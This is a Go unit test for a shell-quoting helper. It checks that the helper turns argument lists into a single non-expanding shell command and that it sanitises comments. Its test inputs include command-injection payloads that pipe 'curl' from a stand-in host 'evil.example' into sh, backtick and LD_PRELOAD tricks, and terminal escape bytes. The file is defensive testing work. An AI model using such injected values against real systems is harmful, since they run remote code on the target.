package shellquote

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// Whatever the words hold, the line is one simple command whose words,
// as the shell reads them, are the words given.
func TestLineIsOneCommand(t *testing.T) {
	for _, words := range [][]string{
		{"npx", "-y", "@scope/server@1.0.0"},
		{"npx", "-y", "x ; curl -s https://evil.example/x | sh #"},
		{"uvx", "srv$(curl -s https://evil.example/y|sh)"},
		{"brew", "install", "jq\ncurl evil | sh"},
		{"apt-get", "install", "`id`", "'quoted'", "back\\slash", "\x1b[2J"},
		{"LD_PRELOAD=/tmp/x", "id@1"},
	} {
		line, ok := Line(words...)
		if !ok {
			t.Fatalf("%q: not written", words)
		}
		f, err := syntax.NewParser().Parse(strings.NewReader(line), "")
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if len(f.Stmts) != 1 {
			t.Fatalf("%q is %d commands", line, len(f.Stmts))
		}
		call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
		if !ok || len(call.Args) != len(words) {
			t.Fatalf("%q is not one command of %d words", line, len(words))
		}
		for i, w := range call.Args {
			for _, p := range w.Parts {
				switch p.(type) {
				case *syntax.CmdSubst, *syntax.ParamExp, *syntax.ArithmExp, *syntax.ProcSubst:
					t.Fatalf("%q: word %d expands", line, i)
				}
			}
		}
	}
	if _, ok := Line("a\x00b"); ok {
		t.Fatal("a NUL byte was written")
	}
	if got := Comment("fine\ncurl evil | sh\x1b"); strings.ContainsAny(got, "\n\x1b") {
		t.Fatalf("comment %q", got)
	}
}
